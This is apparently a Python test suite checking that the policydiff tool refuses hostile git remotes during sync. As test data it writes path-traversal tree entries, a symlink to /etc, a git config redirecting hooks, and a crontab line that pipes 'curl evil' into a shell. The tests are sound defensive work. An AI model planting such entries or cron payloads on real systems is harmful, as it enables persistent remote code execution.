"""A shared remote is trusted with nothing: what a hostile or broken remote cannot do to a runner.

Real processes (the ``policydiff`` CLI), real bare git remotes in temp dirs; the hostile trees are
written with ``git hash-object --literally`` (which, like a hostile server, skips git's checks).
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

from archive_helpers import seed_text

ROOT = Path(__file__).resolve().parents[1]
IDENT = {"GIT_AUTHOR_NAME": "mallory", "GIT_AUTHOR_EMAIL": "m@localhost",
         "GIT_COMMITTER_NAME": "mallory", "GIT_COMMITTER_EMAIL": "m@localhost"}


def cli(*args: str, cwd: Path, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    env.pop("POLICYDIFF_ARCHIVE", None)
    return subprocess.run([sys.executable, "-m", "policydiff", *args], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=timeout)


def git(*args: str, input: bytes | None = None) -> str:
    out = subprocess.run(["git", *args], input=input, capture_output=True, check=True,
                         env=dict(os.environ, **IDENT)).stdout
    return out.decode().strip()


def raw_tree(repo: Path, entries: list[tuple[str, bytes, str]]) -> str:
    """A tree object with exactly these (mode, name, id) entries, unchecked (as a hostile server sends it)."""
    body = b"".join(mode.encode() + b" " + name + b"\0" + bytes.fromhex(sha) for mode, name, sha in entries)
    return git("--git-dir", str(repo), "hash-object", "-w", "-t", "tree", "--literally", "--stdin", input=body)


def blob(repo: Path, data: bytes) -> str:
    return git("--git-dir", str(repo), "hash-object", "-w", "--stdin", input=data)


def hostile_state(repo: Path, root_entries: list[tuple[str, bytes, str]]) -> None:
    commit = git("--git-dir", str(repo), "commit-tree", raw_tree(repo, root_entries), "-m", "state")
    git("--git-dir", str(repo), "update-ref", "refs/policydiff/state", commit)


def runner(tmp_path: Path, remote: Path, name: str = "r1") -> Path:
    archive = tmp_path / name / "archive"
    assert cli("init", "--archive", str(archive), cwd=tmp_path).returncode == 0
    assert cli("remote", "add", "origin", str(remote), "--archive", str(archive), cwd=tmp_path).returncode == 0
    return archive


def snapshot(tmp_path: Path, archive: Path, slug: str, text: str) -> None:
    src = tmp_path / f"{slug}.txt"
    src.write_text(text, encoding="utf-8")
    done = cli("snapshot", slug, str(src), "--archive", str(archive), cwd=tmp_path)
    assert done.returncode == 0, done.stderr


def bare(tmp_path: Path, name: str = "remote.git") -> Path:
    remote = tmp_path / name
    git("init", "-q", "--bare", "--initial-branch=main", str(remote))
    return remote


def test_a_state_tree_entry_dotdot_writes_nothing_outside_the_archive(tmp_path: Path) -> None:
    remote = bare(tmp_path)
    payload = blob(remote, b"echo pwned\n")
    # state/../../pwned.sh and state/../versions.git/hooks/post-update: the two ways up
    inner = raw_tree(remote, [("100644", b"pwned.sh", payload)])
    up = raw_tree(remote, [("40000", b"..", inner)])
    hostile_state(remote, [("40000", b"..", up), ("100644", b"checks.json", blob(remote, b"{}\n"))])
    archive = runner(tmp_path, remote)
    before = git("--git-dir", str(remote), "rev-parse", "refs/policydiff/state")
    done = cli("sync", "--archive", str(archive), cwd=tmp_path)
    assert done.returncode == 2, done.stdout + done.stderr
    assert len(done.stderr.strip().splitlines()) == 1 and "Traceback" not in done.stderr
    assert not list(tmp_path.rglob("pwned.sh"))
    assert git("--git-dir", str(remote), "rev-parse", "refs/policydiff/state") == before  # nothing pushed on


def test_a_state_file_git_accepts_but_is_no_state_file_is_refused(tmp_path: Path) -> None:
    remote = bare(tmp_path)
    hostile_state(remote, [("100644", b"crontab", blob(remote, b"* * * * * curl evil | sh\n"))])
    archive = runner(tmp_path, remote)
    done = cli("sync", "--archive", str(archive), cwd=tmp_path)
    assert done.returncode == 2 and "crontab" in done.stderr and "nothing was written" in done.stderr, done.stderr
    assert not (archive / "state" / "crontab").exists()


def test_a_symlink_or_gitlink_in_the_state_tree_is_refused(tmp_path: Path) -> None:
    for mode, target in (("120000", blob(bare(tmp_path, "s.git"), b"/etc")), ("160000", "1" * 40)):
        remote = bare(tmp_path, f"remote-{mode}.git")
        if mode == "120000":
            target = blob(remote, b"/etc")
        hostile_state(remote, [("100644", b"checks.json", blob(remote, b"{}\n")), (mode, b"outbox", target)])
        archive = runner(tmp_path, remote, f"r-{mode}")
        done = cli("sync", "--archive", str(archive), cwd=tmp_path)
        assert done.returncode == 2, (mode, done.stdout, done.stderr)
        assert not (archive / "state" / "outbox").is_symlink()
        assert "Traceback" not in done.stderr


def test_an_outbox_file_named_for_a_bad_slug_is_refused(tmp_path: Path) -> None:
    remote = bare(tmp_path)
    outbox = raw_tree(remote, [("100644", b"change-A..b-0123456789abcdef.json", blob(remote, b"{}\n"))])
    hostile_state(remote, [("40000", b"outbox", outbox)])
    archive = runner(tmp_path, remote)
    done = cli("sync", "--archive", str(archive), cwd=tmp_path)
    assert done.returncode == 2 and "slug" in done.stderr, done.stderr


def test_a_well_formed_state_still_syncs(tmp_path: Path) -> None:
    remote = bare(tmp_path)
    first = runner(tmp_path, remote, "r1")
    snapshot(tmp_path, first, "a", seed_text("000"))
    assert cli("sync", "--archive", str(first), cwd=tmp_path).returncode == 0
    second = runner(tmp_path, remote, "r2")
    done = cli("sync", "--archive", str(second), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert (second / "state" / "checks.json").is_file()


def show_every_version(tmp_path: Path, archive: Path, slug: str, count: int) -> None:
    for n in range(1, count + 1):
        done = cli("show", slug, str(n), "--archive", str(archive), cwd=tmp_path)
        assert done.returncode == 0, (slug, n, done.stderr)


def test_versions_recorded_before_a_replay_stay_readable_on_a_fresh_runner(tmp_path: Path) -> None:
    """r1 snapshots a, syncs; r2 syncs, snapshots b, syncs; r1 snapshots a twice, syncs (grafted
    onto r2's commit); a fresh r3 reads every version of a."""
    remote = bare(tmp_path)
    r1, r2 = runner(tmp_path, remote, "r1"), runner(tmp_path, remote, "r2")
    text = seed_text("000")
    snapshot(tmp_path, r1, "a", text)
    assert cli("sync", "--archive", str(r1), cwd=tmp_path).returncode == 0
    assert cli("sync", "--archive", str(r2), cwd=tmp_path).returncode == 0
    snapshot(tmp_path, r2, "b", seed_text("001"))
    assert cli("sync", "--archive", str(r2), cwd=tmp_path).returncode == 0
    snapshot(tmp_path, r1, "a", text + "\n第二版新增：我们会收集您的位置信息。\n")
    snapshot(tmp_path, r1, "a", text + "\n第三版新增：我们会与合作方共享您的设备信息。\n")
    done = cli("sync", "--archive", str(r1), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    r3 = runner(tmp_path, remote, "r3")
    assert cli("sync", "--archive", str(r3), cwd=tmp_path).returncode == 0
    show_every_version(tmp_path, r3, "a", 3)
    show_every_version(tmp_path, r3, "b", 1)
    show_every_version(tmp_path, r1, "a", 3)  # and the runner that replayed reads them too
    assert git("--git-dir", str(remote), "fsck", "--strict", "--no-dangling") == ""


def test_a_force_pushed_remote_is_refused_with_how_to_recover(tmp_path: Path) -> None:
    remote = bare(tmp_path)
    r1 = runner(tmp_path, remote, "r1")
    snapshot(tmp_path, r1, "a", seed_text("000"))
    assert cli("sync", "--archive", str(r1), cwd=tmp_path).returncode == 0
    synced = git("--git-dir", str(remote), "rev-parse", "main")
    # someone rewrites the remote: main reset to its first commit, then a different commit on it
    first = git("--git-dir", str(remote), "rev-list", "--max-parents=0", "main")
    other = git("--git-dir", str(remote), "commit-tree", f"{first}^{{tree}}", "-p", first, "-m", "rewritten")
    git("--git-dir", str(remote), "update-ref", "refs/heads/main", other)
    snapshot(tmp_path, r1, "b", seed_text("001"))
    done = cli("sync", "--archive", str(r1), cwd=tmp_path)
    assert done.returncode == 2, done.stdout + done.stderr
    assert "rewritten" in done.stderr and "push --force" in done.stderr and synced[:10] in done.stderr
    assert git("--git-dir", str(remote), "rev-parse", "main") == other  # nothing grafted over it
    show_every_version(tmp_path, r1, "a", 1)
    show_every_version(tmp_path, r1, "b", 1)
    # the recovery the message gives works
    git("--git-dir", str(r1 / "versions.git"), "push", "--force", "origin", f"{synced}:refs/heads/main")
    assert cli("sync", "--archive", str(r1), cwd=tmp_path).returncode == 0


def test_a_stale_state_lock_left_by_a_killed_push_is_cleared(tmp_path: Path) -> None:
    remote = bare(tmp_path)
    r1 = runner(tmp_path, remote, "r1")
    snapshot(tmp_path, r1, "a", seed_text("000"))
    assert cli("sync", "--archive", str(r1), cwd=tmp_path).returncode == 0
    lock = remote / "refs" / "policydiff" / "state.lock"
    lock.write_text("")
    old = lock.stat().st_mtime - 60
    os.utime(lock, (old, old))
    snapshot(tmp_path, r1, "b", seed_text("001"))
    done = cli("sync", "--archive", str(r1), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert not lock.exists()
    fresh = runner(tmp_path, remote, "r2")
    assert cli("sync", "--archive", str(fresh), cwd=tmp_path).returncode == 0
    show_every_version(tmp_path, fresh, "b", 1)


def test_a_fresh_ref_lock_is_left_to_its_writer(tmp_path: Path) -> None:
    from policydiff.archive.gitrefs import STALE_LOCK_SECONDS, clear_stale_lock

    lock = tmp_path / "main.lock"
    lock.write_text("")
    assert clear_stale_lock(lock) is False and lock.exists()
    old = lock.stat().st_mtime - STALE_LOCK_SECONDS - 5
    os.utime(lock, (old, old))
    assert clear_stale_lock(lock) is True and not lock.exists()


def test_a_remote_that_accepts_and_never_answers_costs_the_deadline_not_a_hang(tmp_path: Path) -> None:
    import socket
    import threading

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    held: list[socket.socket] = []
    stop = threading.Event()

    def accept() -> None:
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                held.append(server.accept()[0])  # accepted, never answered
            except OSError:
                pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        port = server.getsockname()[1]
        for url in (f"git://127.0.0.1:{port}/remote.git", f"http://127.0.0.1:{port}/remote.git"):
            archive = tmp_path / url.split(":")[0] / "archive"
            assert cli("init", "--archive", str(archive), cwd=tmp_path).returncode == 0
            assert cli("remote", "add", "origin", url, "--archive", str(archive), cwd=tmp_path).returncode == 0
            env_run = subprocess.run(
                [sys.executable, "-m", "policydiff", "sync", "--archive", str(archive)], cwd=tmp_path,
                env=dict(os.environ, PYTHONPATH=str(ROOT), POLICYDIFF_SYNC_TIMEOUT="2"),
                capture_output=True, text=True, timeout=60)
            assert env_run.returncode == 2, (url, env_run.stdout, env_run.stderr)
            assert "no answer within 2 s" in env_run.stderr, env_run.stderr
        # check --sync: both syncs cut off at the deadline, the check itself runs and records
        (tmp_path / "p.txt").write_text(seed_text("000"), encoding="utf-8")
        sources = tmp_path / "sources.toml"
        sources.write_text(f'[[source]]\nslug = "p"\npath = "{tmp_path / "p.txt"}"\n', encoding="utf-8")
        checked = subprocess.run(
            [sys.executable, "-m", "policydiff", "check", "--archive", str(archive), "--sources", str(sources),
             "--sync", "--force"], cwd=tmp_path, env=dict(os.environ, PYTHONPATH=str(ROOT), POLICYDIFF_SYNC_TIMEOUT="2"),
            capture_output=True, text=True, timeout=60)
        assert checked.returncode == 2 and checked.stderr.count("no answer within 2 s") == 2, checked.stderr
        assert "new versions 1" in checked.stdout, checked.stdout
    finally:
        stop.set()
        thread.join()
        for conn in held:
            conn.close()
        server.close()


def test_check_sync_with_the_remote_down_still_checks_records_and_syncs_next_time(tmp_path: Path) -> None:
    remote = tmp_path / "down.git"  # not there yet: the remote is unreachable
    archive = runner(tmp_path, remote, "r1")
    (tmp_path / "p.txt").write_text(seed_text("000"), encoding="utf-8")
    sources = tmp_path / "sources.toml"
    sources.write_text(f'[[source]]\nslug = "p"\npath = "{tmp_path / "p.txt"}"\n', encoding="utf-8")
    done = cli("check", "--archive", str(archive), "--sources", str(sources), "--sync", "--force", cwd=tmp_path)
    assert done.returncode == 2, done.stdout + done.stderr
    assert "checking and recording locally" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
    show_every_version(tmp_path, archive, "p", 1)  # recorded locally
    git("init", "-q", "--bare", "--initial-branch=main", str(remote))  # the remote is back
    assert cli("sync", "--archive", str(archive), cwd=tmp_path).returncode == 0
    fresh = runner(tmp_path, remote, "r2")
    assert cli("sync", "--archive", str(fresh), cwd=tmp_path).returncode == 0
    show_every_version(tmp_path, fresh, "p", 1)


def hook_config(tmp_path: Path, policy: Path, port: int):  # type: ignore[no-untyped-def]
    from policydiff.watch import config_parse

    sources = tmp_path / "sources.toml"
    sources.write_text(f'[defaults]\npath_root = "{tmp_path}"\n\n[[source]]\nslug = "p"\npath = "{policy}"\n'
                       f'alerts = ["hook"]\n\n[alerts.hook]\nurls = ["json://127.0.0.1:{port}/hook"]\n', encoding="utf-8")
    return config_parse.load(sources)


def test_an_alert_owed_by_one_runner_is_not_delivered_by_another_that_synced_it(tmp_path: Path) -> None:
    """r1 records a change while the webhook is down (the alert stays owed) and syncs; r2 syncs
    that state and runs with the webhook up: only r1 delivers it, once, and the intents of a
    runner never travel."""
    from _servers import WebhookReceiver, free_port

    from policydiff.archive import outbox as box
    from policydiff.archive import remote
    from policydiff.archive.versions import Archive
    from policydiff.watch import outcome
    from policydiff.watch import run as check

    remote_git = bare(tmp_path)
    policy = tmp_path / "p.txt"
    policy.write_text(seed_text("003"), encoding="utf-8")
    cfg = hook_config(tmp_path, policy, free_port())  # nothing listens there: the hook is down
    r1, r2 = runner(tmp_path, remote_git, "r1"), runner(tmp_path, remote_git, "r2")
    t0 = 1_800_000_000.0
    check.run(r1, cfg, outcome.Options(force=True), now=t0)
    policy.write_text(seed_text("003") + "\n我们会向第三方广告公司提供您的设备信息。\n", encoding="utf-8")
    assert check.run(r1, cfg, outcome.Options(force=True), now=t0 + 10).exit_code == 2  # the hook is down
    assert [e["runner"] for e in box.entries(r1)] == [box.runner_id(r1)]
    remote.sync(Archive.open(r1))
    remote.sync(Archive.open(r2))
    assert not list((r2 / "state" / "outbox").glob("intent-*"))
    with WebhookReceiver() as hook:
        cfg = hook_config(tmp_path, policy, hook.port)
        later = t0 + 10 + box.BACKOFF_FIRST + 1
        check.run(r2, cfg, outcome.Options(force=True), now=later)
        assert hook.posts == []  # r1 recorded it: r1 delivers it
        remote.sync(Archive.open(r2))
        remote.sync(Archive.open(r1))
        check.run(r1, cfg, outcome.Options(force=True), now=later)
        assert len(hook.posts) == 1 and not hook.json_bodies()[0]["title"].startswith("[repeat?]")
        remote.sync(Archive.open(r1))
        remote.sync(Archive.open(r2))
        check.run(r2, cfg, outcome.Options(force=True), now=later + box.TAKEOVER_SECONDS * 2)
        assert len(hook.posts) == 1  # delivered is delivered, on every runner
    assert box.entries(r2) == []


def test_an_alert_whose_runner_went_quiet_is_delivered_by_another_flagged_as_a_repeat(tmp_path: Path) -> None:
    from _servers import WebhookReceiver, free_port

    from policydiff.archive import outbox as box
    from policydiff.archive import remote
    from policydiff.archive.versions import Archive
    from policydiff.watch import outcome
    from policydiff.watch import run as check

    remote_git = bare(tmp_path)
    policy = tmp_path / "p.txt"
    policy.write_text(seed_text("003"), encoding="utf-8")
    cfg = hook_config(tmp_path, policy, free_port())  # nothing listens there: the hook is down
    r1, r2 = runner(tmp_path, remote_git, "r1"), runner(tmp_path, remote_git, "r2")
    t0 = 1_800_000_000.0
    check.run(r1, cfg, outcome.Options(force=True), now=t0)
    policy.write_text(seed_text("003") + "\n我们会向第三方广告公司提供您的设备信息。\n", encoding="utf-8")
    check.run(r1, cfg, outcome.Options(force=True), now=t0 + 10)
    remote.sync(Archive.open(r1))  # r1 is never seen again
    remote.sync(Archive.open(r2))
    with WebhookReceiver() as hook:
        cfg = hook_config(tmp_path, policy, hook.port)
        check.run(r2, cfg, outcome.Options(force=True), now=t0 + 10 + box.TAKEOVER_SECONDS + 1)
        titles = [b["title"] for b in hook.json_bodies()]
    assert len(titles) == 1 and titles[0].startswith("[repeat?]"), titles


def test_a_dotgit_or_over_long_state_name_is_refused(tmp_path: Path) -> None:
    for i, name in enumerate((b".git", b"outbox", b"x" * 300)):
        remote = bare(tmp_path, f"remote{i}.git")
        payload = blob(remote, b"[core]\n\thooksPath = /tmp\n")
        if name == b"outbox":  # an over-long outbox file name
            entries = [("40000", b"outbox", raw_tree(remote, [("100644", b"change-a-" + b"0" * 250 + b".json", payload)]))]
        elif name == b".git":
            entries = [("40000", b".git", raw_tree(remote, [("100644", b"config", payload)]))]
        else:
            entries = [("100644", name, payload)]
        hostile_state(remote, entries)
        archive = runner(tmp_path, remote, f"r{i}")
        done = cli("sync", "--archive", str(archive), cwd=tmp_path)
        assert done.returncode == 2 and "Traceback" not in done.stderr, (name[:10], done.stderr)
        assert not (archive / "state" / ".git").exists()
        assert not (archive / "state" / "outbox").exists()


def test_a_remote_main_with_a_folder_named_against_the_slug_rule_is_refused(tmp_path: Path) -> None:
    remote = bare(tmp_path)
    readme = blob(remote, b"# archive\n")
    folder = raw_tree(remote, [("100644", b"policy.txt", blob(remote, b"x"))])
    tree = raw_tree(remote, [("40000", b"Evil Name", folder), ("100644", b"README.md", readme)])
    commit = git("--git-dir", str(remote), "commit-tree", tree, "-m", "hostile")
    git("--git-dir", str(remote), "update-ref", "refs/heads/main", commit)
    archive = runner(tmp_path, remote)
    done = cli("sync", "--archive", str(archive), cwd=tmp_path)
    assert done.returncode == 2 and "Evil Name" in done.stderr and "nothing was changed" in done.stderr, done.stderr
    assert git("--git-dir", str(archive / "versions.git"), "rev-list", "--count", "main") == "1"


def test_a_change_two_overlapping_runners_recorded_is_a_repeat_on_the_one_that_synced_second(tmp_path: Path) -> None:
    """r1 and r2 check the same source and both record its change before either syncs; r1's
    alert goes out, r2's cannot (its hook is down). r2's sync finds r1's version of the same text:
    r2's alert is marked a repeat and never sent."""
    from _servers import WebhookReceiver, free_port

    from policydiff.archive import outbox as box
    from policydiff.archive import remote
    from policydiff.archive.versions import Archive
    from policydiff.watch import outcome
    from policydiff.watch import run as check

    remote_git = bare(tmp_path)
    policy = tmp_path / "p.txt"
    policy.write_text(seed_text("003"), encoding="utf-8")
    r1, r2 = runner(tmp_path, remote_git, "r1"), runner(tmp_path, remote_git, "r2")
    t0 = 1_800_000_000.0
    down = hook_config(tmp_path, policy, free_port())
    check.run(r1, down, outcome.Options(force=True), now=t0)
    remote.sync(Archive.open(r1))
    remote.sync(Archive.open(r2))
    policy.write_text(seed_text("003") + "\n我们会向第三方广告公司提供您的设备信息。\n", encoding="utf-8")
    with WebhookReceiver() as hook:
        up = hook_config(tmp_path, policy, hook.port)
        assert check.run(r1, up, outcome.Options(force=True), now=t0 + 10).exit_code == 0
        time.sleep(1.1)  # fetched in another second: else both runners make the very same commit (and alert id)
        assert check.run(r2, down, outcome.Options(force=True), now=t0 + 11).exit_code == 2
        remote.sync(Archive.open(r1))
        result = remote.sync(Archive.open(r2))
        assert result.repeats == ["p"] and "recorded by another runner first" in result.summary()
        [entry] = [e for e in box.entries(r2, status=None) if e["kind"] == "change" and e["runner"] == box.runner_id(r2)]
        assert entry["repeat"] and entry["status"] == "done"
        check.run(r2, up, outcome.Options(force=True), now=t0 + 10 + box.BACKOFF_FIRST + 1)
        assert len(hook.posts) == 1
    fresh = runner(tmp_path, remote_git, "r3")
    assert cli("sync", "--archive", str(fresh), cwd=tmp_path).returncode == 0
    show_every_version(tmp_path, fresh, "p", 2)
    assert cli("show", "p", "3", "--archive", str(fresh), cwd=tmp_path).returncode == 2  # recorded once


def test_an_outbox_entry_whose_slug_is_not_its_file_name_is_refused(tmp_path: Path) -> None:
    remote = bare(tmp_path)
    entry = b'{"id": "b@x", "kind": "change", "slug": "b", "alert": {}, "status": "pending", "targets": {}}'
    outbox = raw_tree(remote, [("100644", b"change-a-0123456789abcdef.json", blob(remote, entry))])
    hostile_state(remote, [("40000", b"outbox", outbox)])
    archive = runner(tmp_path, remote)
    done = cli("sync", "--archive", str(archive), cwd=tmp_path)
    assert done.returncode == 2 and "not an outbox entry of the policy its name says" in done.stderr, done.stderr
    assert not (archive / "state" / "outbox").exists()
